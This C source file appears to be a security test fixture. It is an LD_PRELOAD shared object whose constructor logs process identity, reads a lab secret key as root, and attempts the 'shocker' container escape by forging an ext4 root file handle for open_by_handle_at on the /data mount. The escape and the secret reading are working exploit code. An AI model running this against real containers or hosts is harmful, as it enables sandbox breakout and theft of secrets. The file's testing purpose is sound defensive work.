/* The shared object a member ships in their code and names in LD_PRELOAD (issue 26, item 1).

   Built by the test with `cc -shared -fPIC`. Its constructor runs in every process that
   starts with it preloaded and writes one line per process:

       pid=.. uid=.. euid=.. exe=.. secret=<hex of the lab's secret_key, or -> how=.. err=..

   - to $EVIL_LOG_HOST, a file in the lab's data folder (only root on the host can create it:
     the folder is the lab's, mode 0700), when the process sees the host's file system;
   - to /data/evil.log, the service's own /data, when it runs in the sandbox;
   - as root inside the sandbox, after opening the host's root file system with
     open_by_handle_at on the /data mount (the "shocker" escape), also to $EVIL_LOG_REL
     below that root (the same host file as $EVIL_LOG_HOST).

   As root it reads the lab's secret_key: directly ($EVIL_SECRET_HOST) on the host, through
   the escaped root ($EVIL_SECRET_REL, relative to the file system's root) in the sandbox.
   A line with uid=0 or euid=0 anywhere, or the secret's hex in a line, is the escape. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define SECRET_BYTES 32

static void append(int dirfd, const char *path, const char *line) {
    if (!path || !*path) return;
    int fd = openat(dirfd, path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC | O_NOFOLLOW, 0644);
    if (fd < 0) return;
    ssize_t ignored = write(fd, line, strlen(line));
    (void)ignored;
    close(fd);
}

/* The file system root of the /data mount, as a directory descriptor, or -1 (errno set). */
static int escape_root(void) {
    int mount_fd = open("/data", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0) return -1;
    struct file_handle *fh = malloc(sizeof *fh + 128);
    if (!fh) return -1;
    int mount_id = 0;
    fh->handle_bytes = 128;
    int root = -1;
    if (name_to_handle_at(AT_FDCWD, "/data", fh, &mount_id, 0) == 0) {
        /* ext4's handle (FILEID_INO32_GEN): inode number, generation. The root is inode 2,
           generation 0. */
        if (fh->handle_bytes >= 8) {
            unsigned int *words = (unsigned int *)fh->f_handle;
            words[0] = 2;
            words[1] = 0;
            fh->handle_bytes = 8;
        }
        root = open_by_handle_at(mount_fd, fh, O_RDONLY | O_DIRECTORY);
    }
    int saved = errno;
    free(fh);
    close(mount_fd);
    errno = saved;
    return root;
}

__attribute__((constructor)) static void evil(void) {
    int saved_errno = errno;
    char exe[256] = "?";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[n > 0 ? n : 1] = '\0';
    char secret[2 * SECRET_BYTES + 1] = "-";
    const char *how = "-";
    char err[64] = "-";
    int root = -1;
    if (geteuid() == 0) {
        const char *host = getenv("EVIL_SECRET_HOST");
        int fd = host ? open(host, O_RDONLY | O_CLOEXEC) : -1;
        how = "direct";
        if (fd < 0) {
            root = escape_root();
            how = "open_by_handle_at";
            const char *rel = getenv("EVIL_SECRET_REL");
            if (root >= 0 && rel) fd = openat(root, rel, O_RDONLY | O_CLOEXEC);
            if (fd < 0) snprintf(err, sizeof err, "%s", strerror(errno));
        }
        if (fd >= 0) {
            unsigned char bytes[SECRET_BYTES];
            ssize_t got = read(fd, bytes, sizeof bytes);
            for (ssize_t i = 0; i < got; i++) sprintf(secret + 2 * i, "%02x", bytes[i]);
            close(fd);
        }
    }
    char line[640];
    snprintf(line, sizeof line, "pid=%d uid=%d euid=%d exe=%s secret=%s how=%s err=%s\n",
             (int)getpid(), (int)getuid(), (int)geteuid(), exe, secret, how, err);
    append(AT_FDCWD, getenv("EVIL_LOG_HOST"), line);
    append(AT_FDCWD, "/data/evil.log", line);
    if (root >= 0) {
        append(root, getenv("EVIL_LOG_REL"), line);
        close(root);
    }
    errno = saved_errno;
}
